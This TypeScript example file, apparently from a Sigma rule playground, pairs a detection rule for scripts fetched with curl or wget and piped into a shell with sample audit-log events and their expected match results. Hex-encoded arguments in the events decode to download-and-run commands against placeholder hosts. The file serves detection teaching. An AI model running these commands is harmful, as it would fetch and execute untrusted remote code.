import type { Example } from '../example';

const rule = String.raw`title: Download Handed To A Shell
id: 85b5289e-0301-4608-bf3e-762cd6acaf83
status: experimental
description: Detects a shell that is told to fetch a script and to run it at once.
references:
    - https://attack.mitre.org/techniques/T1059/004/
author: Sigma Playground
date: 2026-11-30
tags:
    - attack.execution
    - attack.t1059.004
logsource:
    category: process_creation
    product: linux
detection:
    selection_fetch:
        CommandLine|contains:
            - 'curl '
            - 'wget '
    selection_run:
        CommandLine|re: '\|\s*(?:ba|da|z)?sh\b'
    condition: all of selection_*
falsepositives:
    - Installers that are meant to be started like this
level: medium
`;

const events = `type=SYSCALL msg=audit(1795166142.117:901): arch=c000003e syscall=59 success=yes exit=0 ppid=3100 pid=3120 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts0 ses=3 comm="sh" exe="/usr/bin/dash" key="exec"
type=EXECVE msg=audit(1795166142.117:901): argc=3 a0="sh" a1="-c" a2=6375726C202D7320687474703A2F2F3139322E302E322E34342F69207C207368
type=CWD msg=audit(1795166142.117:901): cwd="/home/ana"
type=SYSCALL msg=audit(1795166160.300:902): arch=c000003e syscall=59 success=yes exit=0 ppid=3100 pid=3131 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="exec"
type=EXECVE msg=audit(1795166160.300:902): argc=3 a0="bash" a1="-c" a2=77676574202D714F2D2068747470733A2F2F696E7472616E65742E6578616D706C652F692E7368207C2062617368202D78
type=SYSCALL msg=audit(1795166171.001:903): arch=c000003e syscall=59 success=yes exit=0 ppid=3100 pid=3140 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts0 ses=3 comm="sh" exe="/usr/bin/dash" key="exec"
type=EXECVE msg=audit(1795166171.001:903): argc=3 a0="sh" a1="-c" a2=6375726C202D7320687474703A2F2F3139322E302E322E34342F69203E202F746D702F69
type=SYSCALL msg=audit(1795166180.902:904): arch=c000003e syscall=59 success=yes exit=0 ppid=3102 pid=3150 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" key="exec"
type=EXECVE msg=audit(1795166180.902:904): argc=3 a0="curl" a1="-s" a2="http://192.0.2.44/i"
type=SYSCALL msg=audit(1795166180.905:905): arch=c000003e syscall=59 success=yes exit=0 ppid=3102 pid=3151 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts0 ses=3 comm="sh" exe="/usr/bin/dash" key="exec"
type=EXECVE msg=audit(1795166180.905:905): argc=1 a0="sh"
`;

export const downloadToShell: Example = {
  title: 'Download handed to a shell',
  teaches: 'How audit records become one command line, decoded, and where a pipe is none',
  topic: 'formats',
  at: 'CommandLine|re',
  event: 4,
  expected: 'mm---',
  rule,
  events,
};
